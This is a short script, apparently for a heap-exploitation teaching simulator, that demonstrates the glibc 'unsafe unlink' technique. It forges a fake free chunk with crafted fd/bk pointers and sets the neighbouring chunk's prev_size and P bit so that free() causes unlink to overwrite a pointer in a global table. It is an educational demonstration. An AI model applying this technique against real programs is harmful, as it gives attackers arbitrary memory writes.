# unsafe-unlink.hs - attack: a fake free chunk whose links pass unlink's check.
title "Attack: unsafe unlink"
tunable tcache_count 0
a = malloc(0x418)
b = malloc(0x4f8)
guard = malloc(0x18)
tbl = malloc(0x18)
*(tbl) = a
say "tbl holds a pointer to a, as a global table would. Forge a free chunk inside a."
*(a + 8) = 0x411
*(a + 0x10) = tbl - 0x18
*(a + 0x18) = tbl - 0x10
*(b - 0x10) = 0x410
*(b - 8) = 0x500
pause "b's prev_size is 0x410 and its P bit is clear: free(b) will merge backwards with the fake chunk"
free(b)
pause "unlink's check fd->bk == P holds through tbl, and unlink wrote tbl - 0x18 into tbl: the technique worked"
hexdump tbl 8
